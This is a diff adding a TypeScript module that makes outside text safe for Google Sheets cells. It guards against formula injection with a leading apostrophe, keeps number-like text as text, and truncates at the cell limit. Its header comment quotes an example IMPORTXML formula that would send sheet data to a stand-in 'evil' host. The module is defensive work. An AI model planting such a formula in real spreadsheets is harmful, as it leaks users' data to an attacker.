@@ -1,0 +1,96 @@
+/**
+ * Safe cell values for text that came from outside (API answers, user input).
+ *
+ * Why: `Range.setValues` parses a string as if the user had typed it. Text beginning with `=`
+ * becomes a formula (formula injection: a lead's headline `=IMPORTXML("https://evil/?"&A1)` would
+ * send the sheet's data away), and `+`, `-`, `@` start formulas or parse surprises too. Sheets
+ * skips leading whitespace before reading a number, so " -5" or "\t=1" is guarded the same way,
+ * and tab / carriage return lead the OWASP list of CSV-injection starters. A leading apostrophe
+ * makes Sheets keep the text literally and is not displayed. Text that Sheets would turn into a
+ * number or a boolean ("00123" postal codes, 19-digit ids, "TRUE") gets the apostrophe as well, so
+ * the spec's "numeric identifier as text" stays text and keeps every digit; so does text that
+ * itself begins with an apostrophe, which Sheets would otherwise swallow.
+ *
+ * Values returned by a custom function are NOT parsed by Sheets (they show as they are, and an
+ * apostrophe would be visible), so that target skips the apostrophe: `{ target: "customFunction" }`.
+ *
+ * A cell holds at most 50,000 characters: longer text is cut and ends with a visible marker that
+ * says how long the full text was. Arrays and objects become compact JSON under the same rules.
+ */
+
+/** Sheets' limit on the characters of one cell. */
+export const CELL_CHAR_LIMIT = 50_000;
+
+export type CellValue = string | number | boolean;
+
+export interface CellOptions {
+  /** Where the value lands: written by `Range.setValues` (default) or returned by a custom function. */
+  target?: "range" | "customFunction";
+}
+
+const FORMULA_START = /^[\s]*[=+\-@]|^[\t\r]/;
+// Sheets takes a leading apostrophe as the "show literally" mark and hides it, so text that itself
+// starts with one ("'Tis the season") needs a second.
+const QUOTE_START = /^'/;
+// What Sheets' input parser reads as a number (with grouping, decimals, exponent, percent, or a
+// currency sign) or as a boolean. Over-matching only costs an invisible apostrophe.
+const NUMBER_LIKE = /^\s*[$€£¥]?\s*\(?[+-]?(\d[\d,]*(\.\d*)?|\.\d+)(e[+-]?\d+)?\)?\s*%?\s*$/i;
+const BOOLEAN_LIKE = /^\s*(true|false)\s*$/i;
+
+/** Would Sheets read this text as something other than the same text? */
+export function needsApostrophe(text: string): boolean {
+  return (
+    FORMULA_START.test(text) || QUOTE_START.test(text) || NUMBER_LIKE.test(text) || BOOLEAN_LIKE.test(text)
+  );
+}
+
+/** Cuts text to `limit` characters including a marker that says it was cut and the full length. */
+export function truncateText(text: string, limit = CELL_CHAR_LIMIT): string {
+  if (text.length <= limit) return text;
+  const marker = ` …[truncated: ${text.length.toLocaleString("en-US")} characters in full]`;
+  let end = Math.max(0, limit - marker.length);
+  // Never split a surrogate pair: a lone half would show as a broken character.
+  const last = text.charCodeAt(end - 1);
+  if (last >= 0xd800 && last <= 0xdbff) end -= 1;
+  return text.slice(0, end) + marker;
+}
+
+/** Text as a cell shows it literally: apostrophe where Sheets would parse it, within the cell limit. */
+export function safeText(text: string, options: CellOptions = {}): string {
+  if (options.target === "customFunction") return truncateText(text);
+  if (!needsApostrophe(text)) return truncateText(text);
+  return `'${truncateText(text, CELL_CHAR_LIMIT - 1)}`;
+}
+
+/** Compact JSON of nested data; empty arrays and objects show as an empty cell. */
+function toJsonText(value: object): string {
+  if (Array.isArray(value) ? value.length === 0 : Object.keys(value).length === 0) return "";
+  try {
+    return JSON.stringify(value) ?? "";
+  } catch {
+    // Cycles or BigInt inside: not from JSON, but never let one value stop a whole write.
+    return "[value that cannot be shown as JSON]";
+  }
+}
+
+/** Any value as something a cell can hold, safe against formula injection. */
+export function toCellValue(value: unknown, options: CellOptions = {}): CellValue {
+  switch (typeof value) {
+    case "number":
+      // NaN and Infinity have no cell form; an empty cell says "no value" honestly.
+      return Number.isFinite(value) ? value : "";
+    case "boolean":
+      return value;
+    case "string":
+      return safeText(value, options);
+    case "bigint":
+      return safeText(value.toString(), options);
+    case "object":
+      if (value === null) return "";
+      if (value instanceof Date) return Number.isNaN(value.getTime()) ? "" : value.toISOString();
+      return safeText(toJsonText(value), options);
+    default:
+      // undefined, functions, symbols.
+      return "";
+  }
+}
